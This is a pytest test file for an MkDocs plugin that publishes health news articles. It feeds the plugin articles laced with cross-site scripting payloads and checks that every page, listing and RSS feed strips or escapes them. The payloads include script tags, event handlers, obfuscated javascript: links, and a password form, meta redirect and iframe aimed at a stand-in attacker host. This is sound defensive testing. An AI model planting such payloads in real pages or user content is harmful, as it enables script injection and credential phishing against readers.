"""Untrusted articles never run script in a reader's browser, whichever way the attack is written."""

from __future__ import annotations

import html
import re
import xml.etree.ElementTree as ET

import pytest
from bs4 import BeautifulSoup, Comment
from mkdocs.exceptions import Abort

from helpers import article

ATTACK_BODY = """\
第一段<script>alert('body')</script>正常文字。

![图](x.png){: onerror="alert('img')" } <img src="https://example.org/x.png" alt="外部图片" onerror="alert('img')">
<svg onload="alert(1)"><circle/></svg>

<a href="javascript:alert('a')">点我</a> [链接](javascript:alert('md')) [大写](JAVASCRIPT:alert(1))
[实体](jav&#x61;script:alert(1)) ![数据](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)

段落带属性 {: onclick="alert('attr')" style="position:fixed;top:0" data-md-component="dialog" }

<base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example/">
<form action="https://evil.example/"><input name="password"><button>提交</button></form>
<style>body { display: none }</style>
<iframe src="https://evil.example/"></iframe>
<iframe src="https://player.v.qq.com/iframe/player.html?vid=x"></iframe>
<object data="x.swf"></object><embed src="x.swf"><link rel="stylesheet" href="https://evil.example/x.css">
<!-- 编辑部内部意见：这段不要发 -->
<div style="background:url(javascript:alert(1))" onmouseover="alert(2)">悬停</div>
<a href="https://example.org/" target="_blank">外部链接</a>
"""

TITLE = "标题 & \"引号\" '单引号' <<周刊>> 血压<140 a>b &lt;script&gt;"
"""Plain text that needs escaping everywhere; front matter with HTML tags is refused (test below)."""
TAG = "<标签> & \"x\""
AUTHOR = "\"><张明 & '王'"
UNIT = "\"'>&amp; 市人民医院"
SUMMARY = "血压<140 & 血糖>7 \"控制\" &lt;img src=x onerror=alert(1)&gt;"

HTML_FRONT_MATTER = {
    "title": "<script>alert('title')</script>标题</title><img src=x onerror=alert(1)>",
    "tags": ["<b onmouseover=alert(1)>标签</b>"],
    "author": "<script>alert('author')</script>",
    "unit": "\"><script>alert('unit')</script>",
    "summary": "<img src=x onerror=alert('summary')>",
}


def build_attack_site(site):
    site.config["plugins"] = [{"healthpress": {"iframe_hosts": ["player.v.qq.com"]}}]
    site.config["markdown_extensions"] = ["attr_list", "md_in_html"]
    site.write("news/attack.md", article(TITLE, "2013-05-08", body=ATTACK_BODY, tags=[TAG], author=AUTHOR, unit=UNIT))
    (site.root / "content" / "news" / "x.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    site.write("news/summary.md", article("摘要攻击", "2013-05-09", summary=SUMMARY))
    return site.build()


def test_no_page_carries_script_from_an_article(site):
    built = build_attack_site(site)
    pages = built.all_pages()
    assert len(pages) > 8
    for path in pages:
        soup = BeautifulSoup(path.read_text(encoding="utf-8"), "lxml")
        for script in soup.find_all("script"):
            assert "alert" not in script.get_text(), (path, script)
            assert not script.get("src") or re.search(r"assets/(javascripts|healthpress)/", script["src"]), (path, script)
        for tag in soup.find_all(True):
            for name, value in tag.attrs.items():
                assert not name.startswith("on"), (path, tag)
                value = " ".join(value) if isinstance(value, list) else value
                assert not re.match(r"\s*(javascript|vbscript|data):", value, re.I), (path, tag)
        assert not soup.find_all(["base", "form", "object", "embed", "link"], href=re.compile("evil")), path
        content = soup.select_one(".hp-article__body") or soup.select_one(".md-content")
        ours = lambda tag: tag.find_parent(class_="hp-search-page") or "hp-search-page" in tag.get("class", [])  # noqa: E731
        found = content.find_all(["base", "form", "input", "button", "object", "embed", "svg", "style"])
        assert not [tag for tag in found if not ours(tag)], path
        assert not soup.find("meta", attrs={"http-equiv": True}), path
        assert not soup.find_all(string=lambda s: isinstance(s, Comment) and "编辑部" in s), path
        assert len(soup.head.find_all("title")) == 1 and not soup.head.find("title").find_all(True), path


def test_article_keeps_what_it_needs_and_loses_the_rest(site):
    built = build_attack_site(site)
    page = built.page("news/2013/05/attack/")
    body = page.select_one(".hp-article__body")
    assert not body.find_all("style") and not body.find_all(style=True)
    assert not body.find_all(attrs={"data-md-component": True})
    frames = body.find_all("iframe")
    assert [f["src"] for f in frames] == ["https://player.v.qq.com/iframe/player.html?vid=x"]
    assert frames[0]["sandbox"] == ["allow-scripts", "allow-presentation"] and frames[0]["loading"] == "lazy"
    external = body.find("a", string="外部链接")
    assert external["rel"] == ["noopener", "noreferrer"] and not external.get("target")
    assert "悬停" in body.get_text() and "正常文字" in body.get_text()
    assert "这段不要发" not in page.decode()


def test_front_matter_text_is_escaped_everywhere(site):
    built = build_attack_site(site)
    article_page = built.page("news/2013/05/attack/")
    assert article_page.select_one(".hp-article__header h1").get_text() == TITLE
    assert TITLE in article_page.find("title").get_text()
    meta = article_page.select_one(".hp-meta").get_text()
    assert AUTHOR in meta and UNIT in meta
    listing = built.page("news/")
    assert TITLE in [a.get_text() for a in listing.select(".hp-list__title")]
    assert SUMMARY in [p.get_text() for p in listing.select(".hp-list__summary")]
    tags = built.page("tags/")
    assert TAG in tags.select_one(".hp-tag").get_text()
    summary = [p.get_text() for p in built.page("news/").select(".hp-list__summary")]
    assert any(text.startswith("第一段正常文字") for text in summary), summary
    rss = ET.parse(built.site_dir / "feed.xml").getroot()
    assert TITLE in [item.findtext("title") for item in rss.iter("item")], "the feed's title is the text, escaped once"
    assert "<title>" + html.escape(TITLE, quote=False) + "</title>" in (built.site_dir / "feed.xml").read_text("utf-8")


@pytest.mark.parametrize("field", list(HTML_FRONT_MATTER))
def test_front_matter_with_html_tags_is_refused_naming_file_line_and_field(site, build_errors, field):
    """A field is plain text: a tag would only be printed, and an RSS reader that takes <title> for HTML
    would run it. Before, the title was published entity-escaped into the feed."""
    front = {"title": "标题", field: HTML_FRONT_MATTER[field]}
    site.write("news/attack.md", article(front.pop("title"), "2013-05-08", **front))
    with pytest.raises(Abort):
        site.build()
    errors = build_errors()
    assert any(e.startswith("content/news/attack.md:") and f": {field}: " in e and "HTML 标签" in e and " — " in e
               for e in errors), errors
    assert not (site.root / "site" / "feed.xml").exists()
